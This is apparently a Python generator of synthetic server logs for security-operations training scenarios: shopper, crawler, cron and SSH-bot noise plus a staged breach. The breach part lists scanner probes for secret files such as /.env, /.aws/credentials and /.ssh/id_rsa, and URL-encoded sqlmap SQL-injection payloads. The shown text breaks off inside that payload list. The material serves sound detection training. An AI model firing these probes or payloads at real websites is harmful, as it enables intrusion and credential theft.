#!/usr/bin/env python3
"""Seeded, deterministic generator of the demo and training scenarios.

Owns: writing each scenario of `SCENARIOS` as a directory of log files (in the
formats real hosts write: RFC 3164 syslog for `auth.log` and `syslog`, nginx's
combined format for `access.log`) and a `scenario.yaml` describing them. Every
line is produced here; no third-party log is copied. Must not: read the wall
clock or any global random state (the same seed gives byte-identical files).

    python demo_data/generate.py [--out demo_data/scenarios] [--seed N] [--only NAME]

or, from Python, `generate(name, out_dir, seed, attack=True) -> Path`.
`attack=False` writes the same background noise without the attack story (the
tests check that noise alone raises nothing critical or high).

Timestamps are fixed (the story starts at `start`, e.g. 2026-03-14 09:00:00 UTC);
the replayer (`soc_tui.demo`) shifts them so that the story ends "now".

scenario.yaml
-------------
Top-level keys (all written by this script; `soc_tui.demo` reads `name`,
`title`, `description`, `year`, `files`, `expect` and `questions`):

name, title, description
    identifier (the directory name), one-line title, a paragraph.
year
    year of the syslog lines (RFC 3164 timestamps carry none).
start, duration, timezone
    `2026-03-14T09:00:00Z`, `HH:MM:SS`, always UTC. Offsets (`at:`) count from
    `start`.
seed, attack
    the generator's seed; false when written with the attack left out.
attacker
    the attacker's address (absent without the attack).
hosts
    list of {name, role, address, files}: the fleet; files are paths of `files`.
files
    list of {path, host, format, lines}: `path` relative to the scenario
    directory (also the replayed file's name); `host` for lines that carry no
    host (the access log); `format` a hint (`syslog` = RFC 3164, `nginx` =
    combined access log; the parser detects it anyway); `lines` the count.
timeline
    the acts of the story in time order: {at: "HH:MM:SS" offset, time: clock
    time "HH:MM:SS" UTC, host, file, what, rules: [rule names it raises]}.
expect
    rule names the scenario must raise with the shipped rules (the union of the
    timeline's rules).
forbid_critical_from_noise
    true: no critical alert may come from anything but the attack.
questions
    training questions, each {id, kind, text, answer, accept, hint} and by kind:
      ip      answer an address;
      user    answer an account name;
      text    free text compared case-insensitively with answer and accept;
      time    answer a clock time "HH:MM:SS" on the scenario's clock (UTC, as
              written in the files) with `at` (the same instant as an offset
              from `start`) and `tolerance_minutes`; a trainer that replays the
              story shifted by D compares the trainee's HH:MM with answer + D;
      choice  `choices` is a list of {id, text}; answer is the right id; the
              right choice's text is in accept.
    `accept` lists other answers that count as right (may be empty).
"""

from __future__ import annotations

import argparse
import random
import sys
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any, Callable

import yaml

ROOT = Path(__file__).resolve().parent.parent
DEFAULT_OUT = ROOT / "demo_data" / "scenarios"
DEFAULT_SEED = 20260314
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_HEADER = ("# Written by demo_data/generate.py (seed {seed}); do not edit by hand:\n"
           "# change the generator and run it again. Format: demo_data/README.md.\n")


# -- the story being written --------------------------------------------------------


@dataclass
class Rec:
    t: float  # seconds since the story's start
    seq: int  # order of creation: ties keep it
    host: str
    file: str  # relative path of the file the line goes to
    app: str | None = None  # syslog tag; None for access-log lines
    pid: int | str | None = None  # a number, or a key that gets a pid on rendering
    msg: str = ""  # syslog message, or the whole access-log line after the time
    sid: str | None = None  # key of a logind session number ("@SID@" in msg)
    ip: str = ""  # access log: client address


class Story:
    """Lines of a scenario under construction, rendered in time order per file.

    Processes and login sessions are named by keys and numbered on rendering,
    in time order per host, so pids and session ids grow the way they do on a
    real machine however the lines were generated."""

    def __init__(self, start: datetime, seed: int) -> None:
        self.start = start
        self.seed = seed
        self.recs: list[Rec] = []
        self.silent_after: dict[str, float] = {}  # host -> offset after which it logs nothing
        self._keys = 0

    def key(self) -> str:
        self._keys += 1
        return f"k{self._keys}"

    def syslog(self, t: float, host: str, file: str, app: str, msg: str,
               pid: int | str | None = None, sid: str | None = None) -> None:
        self.recs.append(Rec(t, len(self.recs), host, f"{host}/{file}", app, pid, msg, sid))

    def auth(self, t: float, host: str, app: str, msg: str, pid: int | str | None = None,
             sid: str | None = None) -> None:
        self.syslog(t, host, "auth.log", app, msg, pid, sid)

    def sys(self, t: float, host: str, app: str, msg: str, pid: int | str | None = None,
            sid: str | None = None) -> None:
        self.syslog(t, host, "syslog", app, msg, pid, sid)

    def web(self, t: float, host: str, ip: str, method: str, url: str, status: int, size: int,
            referrer: str = "-", agent: str = "-") -> None:
        rest = f'"{method} {url} HTTP/1.1" {status} {size} "{referrer}" "{agent}"'
        self.recs.append(Rec(t, len(self.recs), host, f"{host}/access.log", msg=rest, ip=ip))

    def clock(self, t: float) -> datetime:
        return self.start + timedelta(seconds=int(t))

    def render(self, first_pid: dict[str, int]) -> dict[str, list[str]]:
        """The lines of every file, in time order."""
        rng = random.Random(f"{self.seed}:pids")
        recs = sorted((r for r in self.recs if r.t < self.silent_after.get(r.host, float("inf"))),
                      key=lambda r: (r.t, r.seq))
        pids: dict[tuple[str, str], int] = {}
        sids: dict[tuple[str, str], int] = {}
        next_pid = dict(first_pid)
        next_sid = {h: 3 + rng.randint(0, 20) for h in first_pid}
        out: dict[str, list[str]] = {}
        for r in recs:
            ts = self.clock(r.t)
            if r.app is None:
                stamp = f"{ts.day:02d}/{_MONTHS[ts.month - 1]}/{ts.year}:{ts:%H:%M:%S} +0000"
                out.setdefault(r.file, []).append(f"{r.ip} - - [{stamp}] {r.msg}")
                continue
            pid = r.pid
            if isinstance(pid, str):
                if (r.host, pid) not in pids:
                    next_pid[r.host] += rng.randint(1, 60)
                    pids[(r.host, pid)] = next_pid[r.host]
                pid = pids[(r.host, pid)]
            msg = r.msg
            if r.sid is not None:
                if (r.host, r.sid) not in sids:
                    next_sid[r.host] += 1
                    sids[(r.host, r.sid)] = next_sid[r.host]
                msg = msg.replace("@SID@", str(sids[(r.host, r.sid)]))
            tag = r.app if pid is None else f"{r.app}[{pid}]"
            stamp = f"{_MONTHS[ts.month - 1]} {ts.day:2d} {ts:%H:%M:%S}"
            out.setdefault(r.file, []).append(f"{stamp} {r.host} {tag}: {msg}")
        return out


class _Clock(str):
    """A time of day or an offset ("HH:MM:SS"), always written quoted (YAML 1.1
    would read some unquoted ones as sexagesimal numbers)."""


class _Dumper(yaml.SafeDumper):
    pass


_Dumper.add_representer(_Clock, lambda d, v: d.represent_scalar("tag:yaml.org,2002:str", str(v), style="'"))


def at(offset: str) -> float:
    """Seconds of an "HH:MM:SS" offset."""
    h, m, s = (int(x) for x in offset.split(":"))
    return float(h * 3600 + m * 60 + s)


def hms(seconds: float) -> str:
    s = int(seconds)
    return _Clock(f"{s // 3600:02d}:{s % 3600 // 60:02d}:{s % 60:02d}")


# -- the fleet ------------------------------------------------------------------------

@dataclass
class Account:
    name: str
    uid: int
    key: str  # SHA256 fingerprint of the account's ED25519 key


def _fingerprint(rng: random.Random) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(rng.choice(alphabet) for _ in range(43))


LOGIND_PID = {"web-01": 688, "bastion": 702, "db-01": 695}
CRON_PID = {"web-01": 731, "bastion": 744, "db-01": 726}
RSYSLOG_PID = {"web-01": 671, "bastion": 683, "db-01": 664}
MAC = {"web-01": "0a:3f:6c:12:9e:01:0a:71:2d:c4:88:01:08:00", "bastion": "0a:b2:47:e0:5d:11:0a:71:2d:c4:88:01:08:00"}
UPTIME = {"web-01": 4_871_203.417286, "bastion": 2_310_544.902114}  # seconds up at the story's start


class Fleet:
    """Helpers that write what one action leaves in the logs of a host."""

    def __init__(self, st: Story, rng: random.Random) -> None:
        self.st = st
        self.rng = rng
        self.users: dict[str, Account] = {}
        self.seen_user: set[tuple[str, str]] = set()  # (host, user) with a user manager running

    def account(self, name: str, uid: int) -> Account:
        acc = Account(name, uid, _fingerprint(self.rng))
        self.users[name] = acc
        return acc

    def port(self) -> int:
        return self.rng.randint(32768, 60999)

    # sessions -------------------------------------------------------------------

    def ssh_login(self, host: str, t: float, user: str, ip: str, *, method: str = "publickey",
                  duration: float | None = None, port: int | None = None) -> tuple[str, str]:
        """An accepted SSH login and its session; returns the (sshd pid key, session key)."""
        st, acc = self.st, self.users[user]
        pid, sid = st.key(), st.key()
        port = port or self.port()
        if method == "publickey":
            st.auth(t, host, "sshd", f"Accepted publickey for {user} from {ip} port {port} ssh2: "
                    f"ED25519 SHA256:{acc.key}", pid)
        else:
            st.auth(t, host, "sshd", f"Accepted password for {user} from {ip} port {port} ssh2", pid)
        st.auth(t + 0.01, host, "sshd", f"pam_unix(sshd:session): session opened for user {user}"
                f"(uid={acc.uid}) by (uid=0)", pid)
        st.auth(t + 0.02, host, "systemd-logind", f"New session @SID@ of user {user}.",
                LOGIND_PID[host], sid)
        if (host, user) not in self.seen_user:
            self.seen_user.add((host, user))
            upid = st.key()
            st.sys(t + 0.03, host, "systemd", f"Created slice user-{acc.uid}.slice - User Slice of UID {acc.uid}.", 1)
            st.sys(t + 0.04, host, "systemd", f"Starting user@{acc.uid}.service - User Manager for UID {acc.uid}...", 1)
            st.auth(t + 0.05, host, "systemd", f"pam_unix(systemd-user:session): session opened for user {user}"
                    f"(uid={acc.uid}) by {user}(uid=0)", upid)
            st.sys(t + 0.3, host, "systemd", f"Started user@{acc.uid}.service - User Manager for UID {acc.uid}.", 1)
        st.sys(t + 0.31, host, "systemd", f"Started session-@SID@.scope - Session @SID@ of User {user}.", 1, sid)
        if duration is not None:
            end = t + duration
            st.auth(end, host, "sshd", f"Received disconnect from {ip} port {port}:11: disconnected by user", pid)
            st.auth(end + 0.01, host, "sshd", f"Disconnected from user {user} {ip} port {port}", pid)
            st.auth(end + 0.02, host, "sshd", f"pam_unix(sshd:session): session closed for user {user}", pid)
            st.auth(end + 0.03, host, "systemd-logind", "Session @SID@ logged out. Waiting for processes to exit.",
                    LOGIND_PID[host], sid)
            st.sys(end + 0.04, host, "systemd", "session-@SID@.scope: Deactivated successfully.", 1, sid)
            st.auth(end + 0.05, host, "systemd-logind", "Removed session @SID@.", LOGIND_PID[host], sid)
        return pid, sid

    def sudo(self, host: str, t: float, user: str, tty: str, pwd: str, cmd: str, *,
             target: str = "root", target_uid: int = 0, duration: float | None = 1.0) -> None:
        st, acc = self.st, self.users[user]
        st.auth(t, host, "sudo", f"  {user} : TTY={tty} ; PWD={pwd} ; USER={target} ; COMMAND={cmd}")
        st.auth(t + 0.01, host, "sudo", f"pam_unix(sudo:session): session opened for user {target}"
                f"(uid={target_uid}) by {user}(uid={acc.uid})")
        if duration is not None:
            st.auth(t + duration, host, "sudo", f"pam_unix(sudo:session): session closed for user {target}")

    def cron_job(self, host: str, t: float, user: str, uid: int, cmd: str, duration: float | None = 0.4) -> None:
        st, pid = self.st, self.st.key()
        st.auth(t, host, "CRON", f"pam_unix(cron:session): session opened for user {user}(uid={uid}) by (uid=0)", pid)
        st.sys(t + 0.01, host, "CRON", f"({user}) CMD ({cmd})", pid)
        if duration is not None:
            st.auth(t + duration, host, "CRON", f"pam_unix(cron:session): session closed for user {user}", pid)

    def unit(self, host: str, t: float, unit: str, desc: str, duration: float = 0.5) -> None:
        st = self.st
        st.sys(t, host, "systemd", f"Starting {unit} - {desc}...", 1)
        st.sys(t + duration, host, "systemd", f"{unit}: Deactivated successfully.", 1)
        st.sys(t + duration + 0.001, host, "systemd", f"Finished {unit} - {desc}.", 1)

    def ufw_block(self, host: str, t: float, src: str, dst: str, dport: int, proto: str = "TCP") -> None:
        ttl = self.rng.choice((49, 52, 113, 240, 241, 244))
        ident = self.rng.randint(1, 65535)
        sport = self.port()
        tail = ("WINDOW=1024 RES=0x00 SYN URGP=0" if proto == "TCP" else "LEN=20")
        self.st.sys(t, host, "kernel",
                    f"[{UPTIME[host] + t:12.6f}] [UFW BLOCK] IN=ens5 OUT= MAC={MAC[host]} "
                    f"SRC={src} DST={dst} LEN=44 TOS=0x00 PREC=0x00 TTL={ttl} ID={ident} PROTO={proto} "
                    f"SPT={sport} DPT={dport} {tail}")


# -- background noise -------------------------------------------------------------------

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:135.0) Gecko/20100101 Firefox/135.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36 Edg/133.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
)
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
GOOGLEBOT_MOBILE = ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
                    "(KHTML, like Gecko) Chrome/133.0.6943.53 Mobile Safari/537.36 "
                    "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
BINGBOT = ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
           "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36")
PROBE_AGENT = "Blackbox Exporter/0.25.0"
SITE = "https://www.example.com"
ASSETS = (("/static/css/main.4f2a9c1e.css", 48213), ("/static/js/app.81bd3e77.js", 131406),
          ("/static/img/logo.svg", 4312), ("/static/fonts/inter-var.woff2", 96512),
          ("/favicon.ico", 15086))
PAGES = (("/", 18234), ("/products", 24410), ("/about", 9120), ("/contact", 7311),
         ("/blog/", 15220), ("/blog/2026/03/spring-collection", 12877),
         ("/blog/2026/02/waxing-your-jacket", 11804), ("/shipping", 8044), ("/cart", 6002))
SEARCHES = ("rain+jacket", "wool+socks", "hiking+boots", "tent", "gift+card", "backpack+30l",
            "down+vest", "kids", "sale")
ENTRY_REFERRERS = ("-", "-", "-", "https://www.google.com/", "https://www.google.com/",
                   "https://www.bing.com/", "https://duckduckgo.com/", "https://www.instagram.com/",
                   "https://news.example.net/gear-guide-2026")


def _sized(rng: random.Random, size: int) -> int:
    return int(size * rng.uniform(0.97, 1.03))


def web_visitors(fl: Fleet, rng: random.Random, t0: float, t1: float, host: str = "web-01") -> None:
    """Shoppers: a page with its assets (cached ones answered 304), a few more pages."""
    st = fl.st
    pool = [f"198.51.100.{i}" for i in range(2, 255)] + [f"192.0.2.{i}" for i in range(2, 128)]
    returning: set[str] = set()
    t = t0 + rng.uniform(0, 8)
    while t < t1:
        ip = rng.choice(pool)
        agent = rng.choice(BROWSERS)
        cached = ip in returning and rng.random() < 0.8
        returning.add(ip)
        referrer = rng.choice(ENTRY_REFERRERS)
        clock = t
        pages = 1 + min(int(rng.expovariate(0.5)), 7)
        for n in range(pages):
            r = rng.random()
            if r < 0.35:
                item = rng.randint(1, 48)
                url, size = f"/product.php?id={item}", rng.randint(14000, 22000)
                images = [(f"/static/img/products/{item}.webp", 40000 + item * 911)]
            elif r < 0.45:
                url, size, images = f"/search?q={rng.choice(SEARCHES)}", rng.randint(9000, 26000), []
            else:
                url, size = rng.choice(PAGES)
                size = _sized(rng, size)
                images = [("/static/img/hero-spring.webp", 184220)] if url == "/" else []
            st.web(clock, host, ip, "GET", url, 200, size, referrer, agent)
            page_ref = SITE + url
            if n == 0:
                for path, asz in ASSETS + tuple(images):
                    clock += rng.uniform(0.02, 0.4)
                    if cached:
                        st.web(clock, host, ip, "GET", path, 304, 0, page_ref, agent)
                    else:
                        st.web(clock, host, ip, "GET", path, 200, asz, page_ref, agent)
                if "iPhone" in agent and not cached:
                    for path in ("/apple-touch-icon-precomposed.png", "/apple-touch-icon.png"):
                        clock += rng.uniform(0.05, 0.3)
                        st.web(clock, host, ip, "GET", path, 404, 162, "-", agent)
            else:
                for path, asz in images:
                    clock += rng.uniform(0.02, 0.4)
                    st.web(clock, host, ip, "GET", path, 200, asz, page_ref, agent)
            if url.startswith("/product.php") and rng.random() < 0.12:  # into the cart
                clock += rng.uniform(5, 30)
                st.web(clock, host, ip, "POST", "/cart/add", 302, 0, page_ref, agent)
                clock += rng.uniform(0.1, 0.4)
                st.web(clock, host, ip, "GET", "/cart", 200, _sized(rng, 6002), page_ref, agent)
            elif rng.random() < 0.03:  # a customer signs in
                clock += rng.uniform(3, 20)
                st.web(clock, host, ip, "GET", "/account/login", 200, 5120, page_ref, agent)
                clock += rng.uniform(6, 25)
                st.web(clock, host, ip, "POST", "/account/login", 302, 0, SITE + "/account/login", agent)
                clock += rng.uniform(0.1, 0.4)
                st.web(clock, host, ip, "GET", "/account", 200, _sized(rng, 7400), SITE + "/account/login", agent)
            referrer = page_ref
            clock += rng.uniform(6, 80)
            if clock >= t1:
                break
        if rng.random() < 0.015:  # an old link from another site
            st.web(t + rng.uniform(1, 5), host, ip, "GET", "/blog/2019/11/trail-shoes-review", 404, 162,
                   "https://forum.example.org/t/best-trail-shoes/1182", agent)
        t += rng.expovariate(1 / 15.0)


def web_crawlers(fl: Fleet, rng: random.Random, t0: float, t1: float, host: str = "web-01") -> None:
    st = fl.st
    urls = [p for p, _ in PAGES] + [f"/product.php?id={i}" for i in range(1, 49)] + ["/sitemap.xml"]
    for agent, ips, mean, robots in ((GOOGLEBOT, [f"192.0.2.{i}" for i in range(130, 136)], 40.0, 2),
                                     (GOOGLEBOT_MOBILE, [f"192.0.2.{i}" for i in range(130, 136)], 120.0, 0),
                                     (BINGBOT, [f"192.0.2.{i}" for i in range(140, 144)], 150.0, 1)):
        t = t0 + rng.uniform(0, mean)
        robots_at = sorted(rng.uniform(t0, t1) for _ in range(robots))
        while t < t1:
            ip = rng.choice(ips)
            if robots_at and robots_at[0] <= t:
                robots_at.pop(0)
                st.web(t, host, ip, "GET", "/robots.txt", 200, 112, "-", agent)
                t += rng.uniform(1, 3)
                if agent == BINGBOT:  # asks for what the site has not got
                    st.web(t, host, ip, "GET", "/ads.txt", 404, 162, "-", agent)
                    t += rng.uniform(1, 3)
            url = rng.choice(urls)
            size = 4210 if url == "/sitemap.xml" else rng.randint(9000, 24000)
            status = 304 if rng.random() < 0.15 else 200
            st.web(t, host, ip, "GET", url, status, 0 if status == 304 else size, "-", agent)
            t += rng.expovariate(1 / mean)


def web_health_checks(fl: Fleet, rng: random.Random, t0: float, t1: float, host: str = "web-01") -> None:
    t = t0 + rng.uniform(0, 30)
    while t < t1:
        fl.st.web(t + rng.uniform(0, 0.2), host, "10.0.9.5", "GET", "/healthz", 200, 2, "-", PROBE_AGENT)
        t += 30.0


def cron_noise(fl: Fleet, rng: random.Random, host: str, t0: float, t1: float) -> None:
    """/etc/crontab's hourly run-parts, and the host's own jobs."""
    jobs: list[tuple[int, int, str, int, str]] = [(17, 60, "root", 0, "   cd / && run-parts --report /etc/cron.hourly")]
    if host == "web-01":
        jobs += [(0, 5, "www-data", 33, "php /var/www/shop/bin/console messenger:consume async --time-limit=240"),
                 (9, 30, "root", 0, "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; "
                                    "then /usr/lib/php/sessionclean; fi")]
    elif host == "bastion":
        jobs += [(3, 15, "root", 0, "/usr/local/sbin/sync-authorized-keys --quiet")]
    elif host == "db-01":
        jobs += [(0, 5, "postgres", 113, "/usr/local/bin/pg-wal-archive-check"),
                 (30, 60, "postgres", 113, "/usr/local/bin/pg-backup.sh >> /var/log/postgresql/pg-backup.log 2>&1")]
    for first, every, user, uid, cmd in jobs:
        m = first
        while m * 60 < t1:
            t = m * 60 + rng.uniform(0.0, 0.9)
            if t >= t0:
                fl.cron_job(host, t, user, uid, cmd, rng.uniform(0.3, 40.0 if "backup" in cmd else 3.0))
            m += every


def systemd_noise(fl: Fleet, rng: random.Random, host: str, t0: float, t1: float) -> None:
    m = 10
    while m * 60 < t1:
        fl.unit(host, m * 60 + rng.uniform(0, 0.5), "sysstat-collect.service",
                "system activity accounting tool", rng.uniform(0.05, 0.2))
        m += 10
    if host == "web-01":
        for m in (9, 39):
            fl.unit(host, m * 60 + rng.uniform(0, 1), "phpsessionclean.service", "Clean php session files",
                    rng.uniform(0.3, 1.2))
        fl.unit(host, at("00:43:12") + rng.uniform(0, 60), "certbot.service", "Certbot", 2.8)
        fl.st.sys(at("00:43:15"), host, "certbot", "Certificate not yet due for renewal; no action taken.", fl.st.key())
    units = [("apt-daily.service", "Daily apt download activities", 6.0),
             ("man-db.service", "Daily man-db regeneration", 1.4),
             ("systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories", 0.1),
             ("fwupd-refresh.service", "Refresh fwupd metadata and update motd", 2.2)]
    if host == "bastion":
        units.append(("motd-news.service", "Message of the Day", 0.6))
    for unit, desc, dur in units:
        fl.unit(host, rng.uniform(t0 + 60, t1 - 60), unit, desc, dur * rng.uniform(0.8, 1.2))


def postgres_noise(fl: Fleet, rng: random.Random, t0: float, t1: float, host: str = "db-01") -> None:
    st, n = fl.st, 40
    t = t0 + 150.0
    while t < t1:
        n += 1
        buffers = rng.randint(40, 900)
        st.sys(t, host, "postgres", f"[{n}-1] LOG:  checkpoint starting: time", 1034)
        n += 1
        st.sys(t + 30 + rng.uniform(0, 5), host, "postgres",
               f"[{n}-1] LOG:  checkpoint complete: wrote {buffers} buffers ({buffers / 163.84:.1f}%); "
               f"0 WAL file(s) added, 0 removed, {rng.randint(0, 2)} recycled; write={rng.uniform(20, 29):.3f} s, "
               f"sync={rng.uniform(0.002, 0.05):.3f} s, total={rng.uniform(29, 30):.3f} s", 1034)
        t += 300.0
    t = t0 + rng.uniform(60, 400)
    while t < t1:
        table = rng.choice(("public.orders", "public.cart_items", "public.sessions", "public.stock_moves"))
        n += 1
        st.sys(t, host, "postgres", f"[{n}-1] LOG:  automatic vacuum of table \"shop.{table}\": index scans: 1",
               st.key())
        t += rng.uniform(300, 900)


def internet_ssh_noise(fl: Fleet, rng: random.Random, t0: float, t1: float, host: str = "bastion") -> None:
    """Bots that find an open port 22: a guess or two each, then they move on."""
    st = fl.st
    names = ("admin", "test", "user", "ubuntu", "oracle", "git", "ftpuser", "pi", "guest", "support",
             "postgres", "mysql", "hadoop", "dev", "www", "ec2-user", "minecraft", "steam", "nagios")
    used: set[str] = set()
    t = t0 + rng.uniform(10, 90)
    while t < t1:
        ip = f"203.0.113.{rng.randint(2, 254)}"
        if ip in used or ip.endswith(".77"):
            t += 1
            continue
        used.add(ip)
        kind = rng.random()
        if kind < 0.3:  # looks at the banner and leaves
            pid = st.key()
            if rng.random() < 0.5:
                st.auth(t, host, "sshd", "error: kex_exchange_identification: Connection closed by remote host", pid)
                st.auth(t, host, "sshd", f"Connection closed by {ip} port {fl.port()}", pid)
            else:
                st.auth(t, host, "sshd", f"Connection closed by {ip} port {fl.port()} [preauth]", pid)
        else:
            clock = t
            for _ in range(rng.choice((1, 1, 2))):
                pid, port = st.key(), fl.port()
                if rng.random() < 0.3:
                    st.auth(clock, host, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                            f"euid=0 tty=ssh ruser= rhost={ip}  user=root", pid)
                    st.auth(clock + 2, host, "sshd", f"Failed password for root from {ip} port {port} ssh2", pid)
                    st.auth(clock + 2.3, host, "sshd", f"Connection closed by authenticating user root {ip} "
                            f"port {port} [preauth]", pid)
                else:
                    name = rng.choice(names)
                    st.auth(clock, host, "sshd", f"Invalid user {name} from {ip} port {port}", pid)
                    st.auth(clock + 0.2, host, "sshd", "pam_unix(sshd:auth): check pass; user unknown", pid)
                    st.auth(clock + 0.2, host, "sshd", "pam_unix(sshd:auth): authentication failure; logname= "
                            f"uid=0 euid=0 tty=ssh ruser= rhost={ip}", pid)
                    st.auth(clock + 2.1, host, "sshd", f"Failed password for invalid user {name} from {ip} "
                            f"port {port} ssh2", pid)
                    st.auth(clock + 2.4, host, "sshd",
                            f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]", pid)
                    st.auth(clock + 2.4, host, "sshd",
                            f"Disconnected from invalid user {name} {ip} port {port} [preauth]", pid)
                clock += rng.uniform(20, 50)
        t += rng.expovariate(1 / 110.0) + 15


def ufw_noise(fl: Fleet, rng: random.Random, host: str, dst: str, t0: float, t1: float) -> None:
    ports = (23, 445, 3389, 5900, 1433, 8088, 2375, 6379, 9200, 5060, 81, 37215, 52869)
    t = t0 + rng.uniform(5, 120)
    while t < t1:
        src = f"203.0.113.{rng.randint(2, 254)}"
        if not src.endswith(".77"):
            fl.ufw_block(host, t, src, dst, rng.choice(ports))
        t += rng.expovariate(1 / 75.0) + 5


# -- the breach scenario ------------------------------------------------------------------------

ATTACKER = "203.0.113.77"
ATTACKER_FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{})"
SQLMAP = "sqlmap/1.8.2#stable (https://sqlmap.org)"
WEB01, BASTION, DB01 = "10.0.1.10", "10.0.0.10", "10.0.2.10"


@dataclass
class Act:
    at: float
    host: str
    file: str
    what: str
    rules: list[str] = field(default_factory=list)


@dataclass
class Built:
    """What a scenario builder knows beyond its lines: the story and its answers."""

    acts: list[Act]
    facts: dict[str, Any]


def _nikto_paths(rng: random.Random) -> list[tuple[str, int]]:
    sensitive = ["/.env", "/.env.bak", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.htpasswd",
                 "/.htaccess", "/.DS_Store", "/.aws/credentials", "/.ssh/id_rsa", "/backup.zip",
                 "/backup.tar.gz", "/www.zip", "/site.tar.gz", "/db.sql", "/dump.sql", "/database.sql.gz",
                 "/config.php.bak", "/wp-config.php.bak", "/index.php.old", "/server-status", "/phpinfo.php",
                 "/id_rsa", "/web.config", "/WEB-INF/web.xml", "/sftp-config.json", "/credentials.txt",
                 "/.vscode/sftp.json", "/shop.sql", "/backup/"]
    plain = ["/admin/", "/administrator/", "/phpmyadmin/", "/pma/", "/wp-admin/", "/wp-login.php",
             "/xmlrpc.php", "/login.php", "/manager/html", "/cgi-bin/", "/cgi-bin/test-cgi",
             "/cgi-bin/printenv", "/console/", "/solr/", "/jenkins/", "/actuator/health", "/api/",
             "/debug/", "/install.php", "/setup.php", "/README.md", "/CHANGELOG.txt",
             "/composer.json", "/package.json", "/icons/README", "/server-info", "/elmah.axd",
             "/trace.axd", "/crossdomain.xml", "/clientaccesspolicy.xml"]
    dirs = ["/", "/admin/", "/old/", "/test/", "/dev/", "/tmp/", "/include/", "/scripts/", "/db/", "/store/"]
    files = ["index.php", "config.inc", "install.txt", "readme.txt", "login.asp", "default.aspx",
             "admin.cgi", "upload.php", "info.php", "main.pl", "search.jsp"]
    combos = [d + f for d in dirs for f in files if rng.random() < 0.7]
    letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    baseline = ["/" + "".join(rng.choice(letters) for _ in range(8)) + ext
                for ext in (".html", ".cfm", ".php", ".asp", ".jsp", ".pl", ".cgi", ".sh", ".aspx", ".txt")]
    paths = sensitive + plain + combos
    rng.shuffle(paths)
    out = [("/", 200)] + [(p, 404) for p in baseline] + [("/robots.txt", 200), ("/sitemap.xml", 200)]
    for p in paths:
        status = 403 if "/." in p else 404
        out.append((p, status))
    return out


_SQLMAP_PAYLOADS = [
    # (payload appended to "id=", status, response size); sqlmap's detection, then union-based extraction
    ("7", 200, 17820), ("7", 200, 17820), ("9462", 200, 6120),
    ("7%27%29%2C%22%28%28.%29%2C%28", 500, 612),
    ("7%27DpUsLm%3C%27%22%3EqJZmRa", 500, 612),
    ("7%29%20AND%202915%3D2915%20AND%20%286183%3D6183", 200, 6120),
    ("7%20AND%202915%3D2915", 200, 17820), ("7%20AND%203761%3D8409", 200, 6120),
    ("7%20AND%202915%3D2915--%20fYrc", 200, 17820),
    ("7%20AND%20%28SELECT%202*%28IF%28%28SELECT%20*%20FROM%20%28SELECT%20CONCAT%280x71786b6b71%2C"
     "%28SELECT%20%28ELT%285631%3D5631%2C1%29%29%29%2C0x716a7a7071%2CFLOOR%28RAND%280%29*2%29%29x%20"
     "FROM%20INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x%29s%29%2C8446744073709551610%2C"
     "8446744073709551610%29%29%29", 500, 612),
    ("7%20AND%20EXTRACTVALUE%284467%2CCONCAT%280x5c%2C0x71786b6b71%2C%28SELECT%20%28ELT%284467%3D4467"
     "%2C1%29%29%29%2C0x716a7a7071%29%29", 500, 612),
    ("7%3BSELECT%20PG_SLEEP%285%29--", 200, 17820),
    ("7%20AND%20%28SELECT%201703%20FROM%20%28SELECT%28SLEEP%285%29%29%29dqLx%29", 200, 17820),
    ("7%20AND%20%28SELECT%201703%20FROM%20%28SELECT%28SLEEP%285%29%29%29dqLx%29", 200, 17820),
    ("7%20ORDER%20BY%201--%20-", 200, 17820), ("7%20ORDER%20BY%208--%20-", 500, 612),
